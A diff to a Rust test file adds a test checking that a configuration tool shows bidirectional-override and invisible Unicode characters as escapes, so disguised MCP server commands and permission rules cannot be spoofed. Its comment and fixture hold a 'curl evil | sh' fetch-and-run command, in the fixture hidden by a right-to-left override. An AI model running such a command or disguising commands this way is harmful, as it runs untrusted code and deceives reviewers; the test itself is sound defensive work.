@@ -123,6 +123,32 @@ fn control_characters_are_shown_as_escapes() {
     assert!(shown.contains("\\u{1b}"), "{shown:?}");
 }
 
+/// Bidirectional overrides and invisible characters could make a command
+/// line read as something else (`curl evil | sh` shown reversed or split).
+#[test]
+fn direction_overrides_and_invisible_characters_are_shown_as_escapes() {
+    let s = sort(
+        "",
+        r#"
+[mcp.x]
+command = "sh"
+args = ["-c", "echo \u202Ehs | lru\u2066x\u200By\uFEFF"]
+[permissions]
+allow = ["bash(ls\u200F*)"]
+"#,
+    );
+    for held in &s.held {
+        let shown = held.to_string();
+        for c in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}', '\u{200f}'] {
+            assert!(!shown.contains(c), "{shown:?}");
+        }
+    }
+    let server = s.held.iter().find(|h| h.key == "mcp.x").unwrap();
+    assert!(server.to_string().contains("\\u{202e}"), "{server:?}");
+    // Ordinary text outside ASCII is left alone.
+    assert_eq!(printable("café — 日本"), "café — 日本");
+}
+
 #[test]
 fn every_mode_is_ranked() {
     let mut ranks: Vec<u8> = Mode::ALL.into_iter().map(strictness).collect();
